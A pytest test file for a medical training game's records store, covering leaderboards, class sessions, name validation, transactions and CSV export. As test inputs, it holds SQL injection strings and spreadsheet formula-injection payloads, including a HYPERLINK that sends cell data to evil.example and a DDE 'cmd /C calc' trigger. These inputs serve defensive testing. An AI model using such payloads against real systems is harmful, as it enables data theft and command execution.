"""Records: runs, history, best per level, leaderboards, class sessions, names, CSV export, transactions, CLI.

The store tests run against SQLite and, when LUMEN_TEST_PG_URL names a server, against PostgreSQL.
"""

from __future__ import annotations

import csv
import json
import re
from datetime import UTC, datetime, timedelta

import pytest
import sqlalchemy as sa
from sqlalchemy import event

from game.records import (
    InvalidInputError,
    RecordError,
    RecordStore,
    StatusKind,
    SubmitOutcome,
    UnknownClassError,
    names,
)
from game.records import cli as records_cli
from game.records.csv_export import COLUMNS, safe_cell
from game.records.models import ClassLevel, ClassSession, Run, Trainee
from tests import records_support as support
from tests.records_support import result


@pytest.fixture(autouse=True)
def isolated(tmp_path, monkeypatch):
    monkeypatch.setenv("LUMEN_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.delenv("LUMEN_DB_URL", raising=False)


@pytest.fixture(params=["sqlite", "postgresql"])
def store(request, tmp_path):
    if request.param == "sqlite":
        with RecordStore(f"sqlite:///{tmp_path / 'records.sqlite3'}") as opened:
            yield opened
    else:
        with support.fresh_pg_schema() as url, RecordStore(url) as opened:
            yield opened


@pytest.fixture
def local(tmp_path):
    with RecordStore() as opened:
        yield opened


T0 = datetime(2026, 3, 1, 9, 0, tzinfo=UTC)


def at(minutes: float) -> datetime:
    return T0 + timedelta(minutes=minutes)


# -- runs, history, best, leaderboard ---------------------------------------------------------------------------


def test_default_store_is_sqlite_in_the_user_data_dir_with_no_setup(local, tmp_path):
    status = local.add_run(result(), support.replay(), "Anna", None)
    assert status.outcome is SubmitOutcome.SAVED
    assert (tmp_path / "data" / "lumen.sqlite3").is_file()
    assert str(local.status()) == "local" and local.status().kind is StatusKind.LOCAL


def test_a_run_keeps_its_result_replay_versions_and_utc_times(store):
    started = datetime(2026, 3, 1, 10, 0, tzinfo=UTC)
    status = store.add_run(result(), support.replay(), "Anna", None, started_at=started, finished_at=at(70))
    [row] = store.history("Anna")
    assert row.run_uuid == status.run_uuid
    assert row.result == result()
    assert row.level_sha256 == support.SHA
    assert row.app_version
    assert row.started_at == started and row.finished_at == at(70)
    assert row.finished_at.tzinfo is not None
    assert (row.score, row.stars, row.success) == (700, 2, True)
    assert store.replay_text(status.run_uuid) == support.replay()


def test_history_is_newest_first_filters_by_level_and_ignores_case_of_the_name(store):
    store.add_run(result("renal-cobra", 100), None, "Anna", None, finished_at=at(1))
    store.add_run(result("pedal-and-hold", 200), None, "anna", None, finished_at=at(2))
    store.add_run(result("renal-cobra", 300), None, "ANNA", None, finished_at=at(3))
    store.add_run(result("renal-cobra", 999), None, "Bob", None, finished_at=at(4))
    assert [r.score for r in store.history("Anna")] == [300, 200, 100]
    assert [r.score for r in store.history("anna", "renal-cobra")] == [300, 100]
    assert {r.trainee for r in store.history("aNNa")} == {"Anna"}  # the name as first typed
    assert store.history("Nobody") == []


def test_best_per_level_takes_the_top_score_then_the_lower_dose(store):
    store.add_run(result("renal-cobra", 500), None, "Anna", None, finished_at=at(1))
    store.add_run(result("renal-cobra", 800, air_kerma_mGy=20.0), None, "Anna", None, finished_at=at(2))
    store.add_run(result("renal-cobra", 800, air_kerma_mGy=9.0), None, "Anna", None, finished_at=at(3))
    store.add_run(result("pedal-and-hold", 50, success=False, stars=0), None, "Anna", None, finished_at=at(4))
    best = {b.level_id: b for b in store.best_per_level("Anna")}
    assert best["renal-cobra"].score == 800 and best["renal-cobra"].air_kerma_mGy == 9.0
    assert best["renal-cobra"].attempts == 3
    assert best["pedal-and-hold"].success is False and best["pedal-and-hold"].attempts == 1


def test_leaderboard_has_one_row_per_trainee_best_first_and_honours_the_limit(store):
    for name, score in [("Anna", 600), ("Bob", 900), ("Anna", 950), ("Cleo", 300), ("Dev", 700)]:
        store.add_run(result(score=score), None, name, None)
    store.add_run(result(score=1000), None, None, None)  # anonymous: stored, not ranked
    store.add_run(result("pedal-and-hold", 999), None, "Eve", None)  # another level
    board = store.leaderboard("renal-cobra", limit=3)
    assert [(r.rank, r.trainee, r.best.score) for r in board] == [(1, "Anna", 950), (2, "Bob", 900), (3, "Dev", 700)]
    assert len(store.leaderboard("renal-cobra", limit=50)) == 4


def test_a_trainee_name_that_looks_like_sql_is_just_a_name(store):
    name = "Robert' OR 1 -- x"
    store.add_run(result(), None, name, None)
    store.add_run(result(score=1), None, "Alice", None)
    assert [r.trainee for r in store.history(name)] == [name]
    assert len(store.history("Alice")) == 1


# -- class sessions ---------------------------------------------------------------------------------------------


def test_class_board_ranks_trainees_by_their_best_per_class_level(store):
    code = store.create_class("Cardiology, week 1", ["renal-cobra", "pedal-and-hold"])
    assert names.CLASS_CODE.match(code)
    info = store.class_info(code.lower())
    assert (info.name, info.level_ids) == ("Cardiology, week 1", ("renal-cobra", "pedal-and-hold"))
    store.add_run(result("renal-cobra", 500, stars=1), None, "Anna", code)
    store.add_run(result("renal-cobra", 900, stars=3), None, "Anna", code)
    store.add_run(result("pedal-and-hold", 400, stars=2), None, "Anna", code)
    store.add_run(result("renal-cobra", 950, stars=3), None, "Bob", code)
    store.add_run(result("renal-cobra", 999), None, "Cleo", None)  # not in the class
    rows = store.class_board(code)
    assert [(r.rank, r.trainee, r.total_score, r.total_stars) for r in rows] == [
        (1, "Anna", 1300, 5),
        (2, "Bob", 950, 3),
    ]
    assert list(rows[0].best) == ["renal-cobra", "pedal-and-hold"]
    assert rows[0].runs == 3 and rows[0].levels_completed == 2
    assert rows[1].best["renal-cobra"].score == 950 and "pedal-and-hold" not in rows[1].best


def test_unknown_and_malformed_class_codes_are_refused_and_nothing_is_stored(store):
    with pytest.raises(UnknownClassError, match="unknown class code ABCDEF"):
        store.add_run(result(), None, "Anna", "ABCDEF")
    with pytest.raises(InvalidInputError, match="invalid class code"):
        store.add_run(result(), None, "Anna", "AB1O0I")
    with pytest.raises(UnknownClassError):
        store.class_board("ZZZZZZ")
    assert store.history("Anna") == []


def test_class_codes_are_unique_even_when_the_random_draw_repeats(store, monkeypatch):
    draws = iter(["AAAAAA", "AAAAAA", "BBBBBB"])
    monkeypatch.setattr(names, "new_class_code", lambda: next(draws))
    assert store.create_class("One", ["renal-cobra"]) == "AAAAAA"
    assert store.create_class("Two", ["renal-cobra"]) == "BBBBBB"


def test_class_codes_use_the_unambiguous_alphabet():
    codes = {names.new_class_code() for _ in range(2000)}
    assert len(codes) == 2000
    assert all(re.fullmatch(r"[A-HJ-NP-Z2-9]{6}", c) for c in codes)


@pytest.mark.parametrize(
    ("levels", "message"),
    [([], "at least one level"), (["renal-cobra", "renal-cobra"], "more than once"), (["Bad Id"], "invalid level")],
)
def test_class_levels_are_checked(local, levels, message):
    with pytest.raises(InvalidInputError, match=message):
        local.create_class("Class", levels)


# -- names ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("  Anna   Lee ", "Anna Lee"),
        ("Jose\u0301", "Jos\u00e9"),  # decomposed accent: NFC
        ("O'Brien", "O'Brien"),
        ("anne-marie_2", "anne-marie_2"),
        ("Dr. A. Smith", "Dr. A. Smith"),
        ("\u674e\u5c0f\u9f8d", "\u674e\u5c0f\u9f8d"),
        ("\u0645\u062d\u0645\u062f", "\u0645\u062d\u0645\u062f"),
        ("x" * 40, "x" * 40),
    ],
)
def test_valid_trainee_names_are_normalised(raw, clean):
    assert names.trainee_name(raw) == clean


@pytest.mark.parametrize(
    "raw",
    [
        "",
        "   ",
        "x" * 41,
        "x" * 10_000,
        '=HYPERLINK("http://evil")',
        "+1",
        "-2+3",
        "@SUM(A1)",
        "'quoted",
        "Robert'); DROP TABLE trainees;--",
        "evil\u202etxt.exe",  # right-to-left override
        "zero\u200bwidth",
        "tab\there",
        "new\nline",
        "nul\x00byte",
        "esc\x1b[31mred",
        "emoji \U0001f600",
        "a<script>",
        "\u0301accent first",
        None,
        42,
        b"bytes",
    ],
)
def test_nasty_trainee_names_are_refused_with_a_safe_message(raw):
    with pytest.raises(InvalidInputError) as info:
        names.trainee_name(raw)
    message = str(info.value)
    assert message.startswith("invalid trainee name")
    assert len(message) < 300
    assert not any(c in message for c in "\x00\x1b\u202e\u200b\n\t")


def test_class_names_and_codes_are_validated():
    assert names.class_name(" Cardio (week 1) / group #2 ") == "Cardio (week 1) / group #2"
    assert names.class_code(" abc234 ") == "ABC234"
    for bad in ["=cmd()", "x" * 61, "", "a;b"]:
        with pytest.raises(InvalidInputError):
            names.class_name(bad)
    for bad in ["ABC23", "ABC2345", "ABCDE1", "ABCDEO", "ABC-23", "", "ABCDE\u0130"]:
        with pytest.raises(InvalidInputError):
            names.class_code(bad)


def test_invalid_results_are_refused_before_anything_is_written(local):
    for bad in [
        result(score=float("nan")),
        result(score=-1),
        result(stars=4),
        result(success="yes"),
        result(level="../../etc"),
        {"level": "renal-cobra"},
        result(feedback=object()),
    ]:
        with pytest.raises(InvalidInputError):
            local.add_run(bad, None, "Anna", None)
    assert local.history("Anna") == []


# -- transactions -----------------------------------------------------------------------------------------------


def test_a_failure_mid_write_leaves_nothing_half_written(store):
    def fail(*_args):
        raise RuntimeError("power cut between the trainee and the run")

    event.listen(Run, "before_insert", fail)
    try:
        with pytest.raises(RuntimeError):
            store.add_run(result(), support.replay(), "Newcomer", None)
    finally:
        event.remove(Run, "before_insert", fail)
    with sa.orm.Session(store._engine) as session:  # the new trainee was rolled back with the run
        assert session.scalar(sa.select(sa.func.count(Trainee.id))) == 0
        assert session.scalar(sa.select(sa.func.count(Run.id))) == 0
    store.add_run(result(), support.replay(), "Newcomer", None)  # and the store still works
    assert len(store.history("Newcomer")) == 1


def test_a_class_is_created_whole_or_not_at_all(store):
    def fail(*_args):
        raise RuntimeError("disk full at the second level")

    event.listen(ClassLevel, "before_insert", fail)
    try:
        with pytest.raises(RuntimeError):
            store.create_class("Half", ["renal-cobra", "pedal-and-hold"])
    finally:
        event.remove(ClassLevel, "before_insert", fail)
    with sa.orm.Session(store._engine) as session:
        assert session.scalar(sa.select(sa.func.count(ClassSession.id))) == 0


def test_a_full_disk_is_one_clear_message_and_leaves_nothing_half_written(tmp_path):
    with RecordStore(f"sqlite:///{tmp_path / 'small.sqlite3'}") as small:
        small.add_run(result(), None, "Anna", None)
        small._engine.dispose()

        @event.listens_for(small._engine, "connect")
        def _cap_size(dbapi_connection, _record):  # the file may not grow: SQLite reports a full disk
            dbapi_connection.execute("PRAGMA max_page_count = 1")

        huge_replay = support.replay() + "".join(
            f'{{"t": {i}, "action": "fluoro", "value": {i % 2}}}\n' for i in range(9000)
        )
        with pytest.raises(RecordError, match="disk is full") as info:
            small.add_run(result(), huge_replay, "Newcomer", None)
        assert "Traceback" not in str(info.value) and "INSERT" not in str(info.value)
        event.remove(small._engine, "connect", _cap_size)
        small._engine.dispose()
        assert small.history("Newcomer") == [] and len(small.history("Anna")) == 1


def test_the_same_run_uuid_is_stored_once(store):
    run_uuid = "7f1b1a2e-5d4c-4b3a-9f8e-1234567890ab"
    first = store.add_run(result(), None, "Anna", None, run_uuid=run_uuid)
    again = store.add_run(result(), None, "Anna", None, run_uuid=run_uuid)
    assert first.run_uuid == again.run_uuid == run_uuid
    assert len(store.history("Anna")) == 1


# -- CSV export -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1dcmd", "'\uff1dcmd"),
        ("a=1", "a=1"),
        ("Anna", "Anna"),
        (-5, -5),
        (3.5, 3.5),
        (800.0, 800),
        (True, "true"),
        (None, ""),
    ],
)
def test_csv_cells_are_defused_and_numbers_stay_numbers(value, cell):
    assert safe_cell(value) == cell


def test_class_export_is_safe_against_formula_injection(store, tmp_path):
    code = store.create_class("Week 1", ["renal-cobra"])
    nasty = result(
        outcome='=HYPERLINK("http://evil.example/?"&A1,"click")',
        complications=["+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"],
        result_hash="=1",
    )
    store.add_run(nasty, None, "Anna", code, finished_at=at(1))
    store.add_run(result(score=123.5), None, "Bob", code, finished_at=at(2))
    path = tmp_path / "week1.csv"
    assert store.export_class_csv(code, path) == 2
    raw = path.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(raw.splitlines()))
    assert rows[0] == list(COLUMNS)
    anna = dict(zip(rows[0], rows[1], strict=True))
    assert anna["outcome"].startswith("'=HYPERLINK")
    assert anna["complications"].startswith("'+cmd")
    assert anna["result_hash"] == "'=1"
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
    # numbers are written as bare numbers (no quotes) so a spreadsheet sums them
    assert ",123.5," in raw and ',"Bob",' in raw


TRIGGERS = ["=1+2", "+1", "-1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201"]


def test_every_formula_trigger_is_defused_in_the_file_and_negative_numbers_stay_numbers(store, tmp_path):
    code = store.create_class("Week 1", ["renal-cobra"])
    for i, value in enumerate(TRIGGERS):
        nasty = result(outcome=value, result_hash=value, contrast_mL=-1.5 - i, cine_frames=-i)
        store.add_run(nasty, None, "Anna", code, finished_at=at(i))
    path = tmp_path / "triggers.csv"
    assert store.export_class_csv(code, path) == len(TRIGGERS)
    raw = path.read_text(encoding="utf-8-sig")
    with path.open(encoding="utf-8-sig", newline="") as handle:  # newline="": CR and LF inside cells survive
        header, *rows = list(csv.reader(handle))
    assert len(rows) == len(TRIGGERS)
    for value, row in zip(TRIGGERS, rows, strict=True):
        cells = dict(zip(header, row, strict=True))
        assert cells["outcome"] == cells["result_hash"] == "'" + value
        assert float(cells["contrast_mL"]) < 0 and not cells["contrast_mL"].startswith("'")
    # the negative figures are bare numbers in the file (no quotes, no prefix), so a spreadsheet sums them
    assert ",-1.5," in raw and ",-12.5," in raw and ",-11," in raw


def test_export_to_an_unwritable_place_names_the_problem(local, tmp_path):
    code = local.create_class("Week 1", ["renal-cobra"])
    with pytest.raises(RecordError, match="cannot write"):
        local.export_class_csv(code, tmp_path / "no" / "such" / "dir" / "x.csv")


# -- command-line functions ------------------------------------------------------------------------------------


def test_cli_class_create_board_and_export(capsys, tmp_path):
    assert records_cli.cmd_class_create("Week 1", "renal-cobra,pedal-and-hold", as_json=True) == 0
    created = json.loads(capsys.readouterr().out)
    code = created["code"]
    assert created["levels"] == ["renal-cobra", "pedal-and-hold"]
    line = records_cli.record_run(result(score=640), None, "Anna", code.lower())
    assert "saved for Anna in class " + code in line
    assert records_cli.cmd_class_board(code, as_json=True) == 0
    out = capsys.readouterr().out
    board = json.loads(out)
    assert out.count("\n") == 1
    assert board["rows"][0]["trainee"] == "Anna" and board["rows"][0]["levels"]["renal-cobra"]["score"] == 640
    assert records_cli.cmd_class_board(code) == 0
    assert "Anna" in capsys.readouterr().out
    assert records_cli.cmd_class_export(code, tmp_path / "out.csv") == 0
    assert "wrote 1 run of class" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("call", "expected"),
    [
        (lambda: records_cli.cmd_class_board("ZZZZZZ", True), "unknown class code ZZZZZZ"),
        (lambda: records_cli.cmd_class_board("nope", True), "invalid class code"),
        (lambda: records_cli.cmd_class_create("=evil", "renal-cobra", True), "invalid class name"),
        (lambda: records_cli.cmd_class_create("Week", "no-such-level", True), "unknown level 'no-such-level'"),
    ],
)
def test_cli_errors_are_one_message_and_one_json_object(capsys, call, expected):
    assert call() == 1
    captured = capsys.readouterr()
    assert expected in json.loads(captured.out)["error"]
    assert captured.err.count("\n") == 1 and expected in captured.err
    assert "Traceback" not in captured.err


def test_cli_record_run_reports_problems_instead_of_raising(tmp_path):
    assert records_cli.record_run(result(), None, "=bad", None).startswith("records: run not saved: invalid trainee")
    line = records_cli.record_run(result(), tmp_path / "missing.jsonl", "Anna", None)
    assert "saved for Anna" in line and "not stored" in line
    assert records_cli.check_run_target("Anna", None) is None
    assert "unknown class code" in records_cli.check_run_target("Anna", "ZZZZZZ")


def _existing_class() -> str:
    with RecordStore() as store:
        return store.create_class("Week 1", ["renal-cobra"])


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (lambda code, tmp: ["class", "board", "ZZZZZZ"], "lumen class board: unknown class code ZZZZZZ"),
        (lambda code, tmp: ["class", "export", "ZZZZZZ", "--csv", str(tmp / "x.csv")], "unknown class code ZZZZZZ"),
        (lambda code, tmp: ["class", "create", "Week\n1", "--levels", "renal-cobra"], "invalid class name"),
        (lambda code, tmp: ["class", "create", "x" * 61, "--levels", "renal-cobra"], "longer than 60 characters"),
        (lambda code, tmp: ["class", "export", code, "--csv", str(tmp / "no" / "dir" / "x.csv")], "cannot write"),
        (lambda code, tmp: ["class", "export", code, "--csv", str(tmp)], "cannot write"),
    ],
)
def test_the_class_commands_fail_with_one_line_and_no_traceback(capsys, tmp_path, argv, expected):
    from game import cli

    args = argv(_existing_class(), tmp_path)
    capsys.readouterr()
    assert cli.main(args) == 1
    captured = capsys.readouterr()
    assert captured.err.count("\n") == 1 and expected in captured.err, captured.err
    assert "Traceback" not in captured.err and captured.out == ""


@pytest.mark.parametrize(
    "argv",
    [
        ["class", "create", "Week 1", "--levels", "renal-cobra"],
        ["class", "board", "K7QX2M"],
        ["class", "board", "K7QX2M", "--json"],
        ["class", "export", "K7QX2M", "--csv", "out.csv"],
    ],
)
def test_the_class_commands_say_in_one_line_that_the_server_is_unreachable(capsys, monkeypatch, tmp_path, argv):
    from game import cli

    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("LUMEN_DB_URL", support.closed_port_url())
    assert cli.main(argv) == 1
    captured = capsys.readouterr()
    assert captured.err.count("\n") == 1 and "cannot reach the records server" in captured.err
    assert "s3cret-pw" not in captured.err + captured.out and "Traceback" not in captured.err
    if "--json" in argv:
        assert "cannot reach the records server" in json.loads(captured.out)["error"]
    assert not (tmp_path / "out.csv").exists()


def test_the_installed_command_prints_no_traceback_for_an_unreachable_server(tmp_path):
    import os
    import subprocess
    import sys

    env = {**os.environ, "LUMEN_DATA_DIR": str(tmp_path), "LUMEN_DB_URL": support.closed_port_url()}
    done = subprocess.run(
        [sys.executable, "-m", "game", "class", "board", "K7QX2M"], env=env, capture_output=True, text=True, timeout=60
    )
    assert done.returncode == 1 and done.stdout == ""
    assert (
        done.stderr.startswith("lumen class board: cannot reach the records server") and "Traceback" not in done.stderr
    )
